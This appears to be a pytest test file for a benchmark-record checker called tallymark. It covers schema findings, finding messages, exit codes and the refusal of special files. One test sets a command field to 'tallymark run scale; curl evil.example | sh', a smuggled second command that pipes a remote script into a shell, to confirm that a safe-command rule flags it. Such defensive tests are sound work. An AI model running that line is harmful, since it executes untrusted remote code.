"""The checker: what is judged, which findings are listed, and which exit code follows."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
from support.evidence import died, imported_execution, runtime_execution, small_execution

from tallymark import errors
from tallymark.check import RULES, check_document, check_paths, checked_execution
from tallymark.check.judge import LISTED, judge
from tallymark.errors import FindingsError, UsageError
from tallymark.evidence import canonical, documents
from tallymark.evidence.documents import Document


def loaded(value: dict[str, Any], name: str = "run.json") -> Document:
    return documents.from_bytes(canonical.encode(value), name)


def written(folder: Path, name: str, value: object) -> Path:
    path = folder / name
    path.write_bytes(value if isinstance(value, bytes) else canonical.encode(value))
    return path


def test_valid_documents_have_no_findings() -> None:
    for value in (runtime_execution(tasks=50), imported_execution(), small_execution(tasks=1)):
        assert check_document(loaded(value)) == ()


def test_a_finding_is_one_line_with_place_problem_and_remedy() -> None:
    value = small_execution()
    value["runs"][0]["tasks_rejected"] = 1
    (finding,) = check_document(loaded(value, "data/a.json"))
    assert finding.line() == (
        "data/a.json::$.runs[0].tasks_submitted: 10 submitted, but 10 admitted + 1 rejected. "
        "Run the suite again; a record is never corrected by hand."
    )


@pytest.mark.parametrize(
    ("value", "pointer", "words"),
    [
        ({}, "$", "declares no schema"),
        ({"schema": 7}, "$.schema", "schema 7 is unknown"),
        (
            {"schema": "runtime-execution/9.9"},
            "$.schema",
            "Use runtime-execution/1.0 or runtime-execution/1.1, or",
        ),
        ({"schema": "other/1.0"}, "$.schema", "Use one of ab-plan/1.0"),
        ({"schema": "runtime-execution/1.0\n"}, "$.schema", "unknown"),
    ],
)
def test_a_document_without_a_known_schema_is_a_finding(
    value: dict[str, Any], pointer: str, words: str
) -> None:
    (finding,) = check_document(loaded(value))
    assert (finding.pointer, finding.rule) == (pointer, "schema")
    assert words in finding.line()


def test_a_command_of_two_lines_is_refused_whatever_quotes_it_has() -> None:
    for command in ("tallymark run scale\nid", "tallymark import hyperfine 'a\nid\n'"):
        value = small_execution()
        value["execution"]["command"] = command
        assert [finding.pointer for finding in check_document(loaded(value))].count(
            "$.execution.command"
        ) >= 1


def test_the_finding_about_a_command_does_not_repeat_it() -> None:
    value = small_execution()
    value["execution"]["command"] = "tallymark run scale; curl evil.example | sh"
    (finding,) = check_document(loaded(value))
    assert (finding.pointer, finding.rule) == ("$.execution.command", "safe-command")
    assert "curl" not in finding.line()


def test_rules_are_not_run_on_a_document_of_the_wrong_shape() -> None:
    value = small_execution()
    value["runs"][0]["tasks_rejected"] = 1
    del value["runs"][0]["agents"]
    judgement = judge(loaded(value))
    assert [finding.rule for finding in judgement.findings] == ["schema"]
    assert {assertion.result for assertion in judgement.assertions[1:]} == {"not_run"}


def test_every_rule_of_the_kind_has_a_result() -> None:
    judgement = judge(loaded(imported_execution()))
    expected = ["schema", *(rule.id for rule in RULES if "imported-execution" in rule.kinds)]
    assert [assertion.rule for assertion in judgement.assertions] == expected
    assert {assertion.result for assertion in judgement.assertions} == {"passed"}


def test_a_warning_is_a_finding_and_no_failure() -> None:
    value = small_execution()
    value["manifest"]["dirty"] = True
    judgement = judge(loaded(value))
    assert [finding.severity for finding in judgement.findings] == ["warning"]
    assert not judgement.failed
    assert checked_execution(loaded(value)).runs[0].counted


def test_a_large_broken_document_lists_a_hundred_findings_and_counts_the_rest() -> None:
    value = small_execution()
    value["runs"][0]["timeline"]["rows"] = [[float(-t), 0, 0, 0, 0, 0.0] for t in range(5000)]
    value["runs"][0]["timeline"]["samples"] = 5000
    findings = check_document(loaded(value))
    assert len(findings) == LISTED + 1
    assert findings[-1].rule == "more"
    assert findings[-1].problem == "at least 900 more findings are not listed"


def test_findings_below_the_limit_are_counted_exactly() -> None:
    value = small_execution()
    value["runs"][0]["timeline"]["rows"] = [[float(-t), 0, 0, 0, 0, 0.0] for t in range(501)]
    findings = check_document(loaded(value))
    # every row but the first (-0.0) lies below the minimum of 0
    assert findings[-1].problem == "400 more findings are not listed"


def test_runs_of_a_checked_execution_carry_their_whole_configuration() -> None:
    value = runtime_execution(tasks=20, agents=(100,), repetitions=2)
    value["runs"][1] = died(value["runs"][1])
    execution = checked_execution(loaded(value))
    first, second = execution.runs
    assert (first.pointer, first.counted, second.counted) == ("$.runs[0]", True, False)
    assert first.configuration["agents"] == 100
    assert first.configuration["build"] == value["manifest"]["build"]
    assert first.configuration["machine"] == value["manifest"]["machine"]
    assert first.configuration == second.configuration


def test_nothing_with_findings_becomes_a_checked_execution() -> None:
    value = small_execution()
    value["runs"][0]["tasks_rejected"] = 1
    value["runs"][0]["active_at_end"] = 1
    with pytest.raises(FindingsError, match=r"\$\.runs\[0\]\.tasks_submitted.*and 2 more findings"):
        checked_execution(loaded(value))
    with pytest.raises(FindingsError, match="is not an execution"):
        checked_execution(loaded({"schema": "report/1.0"}))


@pytest.mark.parametrize(
    ("files", "exit_code"),
    [
        ({"ok.json": small_execution()}, errors.CLEAN),
        ({"ok.json": small_execution(), "none.json": {}}, errors.FINDINGS),
        ({"list.json": []}, errors.FINDINGS),
        ({"none.json": {}, "bad.json": b"{"}, errors.UNREADABLE),
        ({"ok.json": small_execution(), "bad.json": b'{"a": NaN}'}, errors.UNREADABLE),
        ({"notes.txt": b"x"}, errors.NOTHING_CHECKED),
        ({}, errors.NOTHING_CHECKED),
    ],
)
def test_the_highest_exit_code_applies(tmp_path: Path, files: dict[str, object], exit_code: int) -> None:
    for name, value in files.items():
        written(tmp_path, name, value)
    outcome = check_paths([tmp_path], tmp_path)
    assert outcome.exit_code == exit_code
    assert len(outcome.files) == len([name for name in files if name.endswith(".json")])


def test_an_unreadable_file_is_a_finding_at_its_place(tmp_path: Path) -> None:
    written(tmp_path, "bad.json", b'{"runs": [{"a": 1, "a": 2}]}')
    outcome = check_paths([tmp_path], tmp_path)
    (finding,) = outcome.findings
    assert (finding.file, finding.pointer, finding.rule) == ("bad.json", "$.runs[0].a", "unreadable")
    assert outcome.checked == ()


def test_special_files_are_refused_without_waiting(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.json")
    (tmp_path / "link.json").symlink_to("/dev/zero")
    (tmp_path / "loop").symlink_to(tmp_path)
    outcome = check_paths([tmp_path, Path("/dev/zero")], tmp_path)
    assert outcome.exit_code == errors.UNREADABLE
    assert [(f.file, f.problem) for f in outcome.findings] == [
        ("link.json", "it is a symbolic link"),
        ("pipe.json", "it is not a regular file"),
        ("/dev/zero", "it is not a regular file"),
    ]


def test_a_missing_path_is_a_misuse(tmp_path: Path) -> None:
    with pytest.raises(UsageError):
        check_paths([tmp_path / "gone"])


def test_a_file_named_twice_is_checked_once(tmp_path: Path) -> None:
    path = written(tmp_path, "a.json", small_execution())
    assert len(check_paths([path, tmp_path, path], tmp_path).files) == 1
